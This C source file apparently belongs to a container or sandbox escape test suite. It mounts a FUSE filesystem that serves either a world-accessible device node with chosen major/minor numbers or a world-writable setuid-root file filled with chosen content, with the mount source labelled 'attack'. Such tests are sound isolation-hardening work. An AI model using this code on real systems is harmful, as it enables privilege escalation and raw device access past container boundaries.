// SPDX-License-Identifier: GPL-2.0
/*
 * fuse DEVICE DIRECTORY NAME TYPE MAJOR MINOR: mounts a file system of its own that
 * has one file, a device node that anybody may use, and opens it.
 * fuse DEVICE DIRECTORY NAME serve FILE: the file is a setuid program of root, with
 * FILE's content, that anybody may write to; for all users; stays.
 */
#include <linux/fuse.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>

#include "escape.h"

static int dev;
static struct fuse_attr root = { .ino = 1, .mode = S_IFDIR | 0755, .nlink = 2 };
static struct fuse_attr node = { .ino = 2, .nlink = 1 };
static char content[4 << 20];

#define READ_MAX	131072

static void answer(const struct fuse_in_header *in, int error, const void *data, size_t len)
{
	static char buf[sizeof(struct fuse_out_header) + READ_MAX];
	struct fuse_out_header *out = (void *)buf;

	out->len = sizeof(*out) + len;
	out->error = error;
	out->unique = in->unique;
	memcpy(out + 1, data, len);
	need(write(dev, buf, out->len) == (ssize_t)out->len || errno == ENOENT, "answer");
}

static void answer_read(const struct fuse_in_header *in)
{
	const struct fuse_read_in *arg = (const void *)(in + 1);
	size_t from = arg->offset < node.size ? arg->offset : node.size;
	size_t len = arg->size < node.size - from ? arg->size : node.size - from;

	answer(in, 0, content + from, len < READ_MAX ? len : READ_MAX);
}

static void serve_one(const struct fuse_in_header *in, const char *name)
{
	struct fuse_init_out init = { .major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 4096 };
	struct fuse_entry_out entry = { .nodeid = 2, .attr = node };
	struct fuse_statfs_out statfs = { .st = { .bsize = 4096, .namelen = 255 } };
	struct fuse_open_out open = { .fh = 0 };
	struct fuse_attr_out attr = { .attr = in->nodeid == 1 ? root : node };

	switch (in->opcode) {
	case FUSE_INIT:
		answer(in, 0, &init, sizeof(init));
		break;
	case FUSE_LOOKUP:
		if (strcmp((const char *)(in + 1), name))
			answer(in, -ENOENT, NULL, 0);
		else
			answer(in, 0, &entry, sizeof(entry));
		break;
	case FUSE_GETATTR:
		answer(in, 0, &attr, sizeof(attr));
		break;
	case FUSE_STATFS:
		answer(in, 0, &statfs, sizeof(statfs));
		break;
	case FUSE_OPEN:
	case FUSE_OPENDIR:
		answer(in, 0, &open, sizeof(open));
		break;
	case FUSE_READ:
		answer_read(in);
		break;
	case FUSE_READDIR:
		answer(in, 0, NULL, 0);
		break;
	case FUSE_FLUSH:
	case FUSE_RELEASE:
	case FUSE_RELEASEDIR:
		answer(in, 0, NULL, 0);
		break;
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
		break;
	default:
		answer(in, -ENOSYS, NULL, 0);
	}
}

static int server(const char *name)
{
	static char buf[FUSE_MIN_READ_BUFFER + 4096];

	while (read(dev, buf, sizeof(buf)) > 0)
		serve_one((void *)buf, name);
	return 0;
}

static int serve(char **argv)
{
	int file = open(argv[5], O_RDONLY | O_CLOEXEC);
	ssize_t n = file < 0 ? -1 : read(file, content, sizeof(content));
	char options[128];

	need(n > 0 && n < (ssize_t)sizeof(content), argv[5]);
	node.size = n;
	node.blocks = n / 512;
	node.mode = S_IFREG | 06777;
	dev = open(argv[1], O_RDWR | O_CLOEXEC);
	need(dev >= 0, argv[1]);
	snprintf(options, sizeof(options),
		 "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", dev);
	if (mount("attack", argv[2], "fuse", 0, options))
		return outcome("mount", -1);
	outcome("serving", 0);
	return server(argv[3]);
}

int main(int argc, char **argv)
{
	char options[128], path[256];
	pid_t pid;
	int ret;

	errno = EINVAL;
	if (argc == 6 && !strcmp(argv[4], "serve"))
		return serve(argv);
	need(argc == 7, "usage: fuse DEVICE DIRECTORY NAME TYPE MAJOR MINOR");
	node.mode = (*argv[4] == 'b' ? S_IFBLK : S_IFCHR) | 0666;
	node.rdev = makedev(atoi(argv[5]), atoi(argv[6]));
	root.uid = node.uid = getuid();
	root.gid = node.gid = getgid();
	dev = open(argv[1], O_RDWR | O_CLOEXEC);
	if (dev < 0)
		return outcome("open fuse", -1);
	mkdir(argv[2], 0755);
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=%d,group_id=%d", dev,
		 getuid(), getgid());
	if (mount("attack", argv[2], "fuse", 0, options))
		return outcome("mount", -1);
	pid = fork();
	need(pid >= 0, "fork");
	if (!pid)
		return server(argv[3]);
	snprintf(path, sizeof(path), "%s/%s", argv[2], argv[3]);
	ret = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	outcome("open", ret);
	umount2(argv[2], MNT_DETACH);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return ret < 0;
}
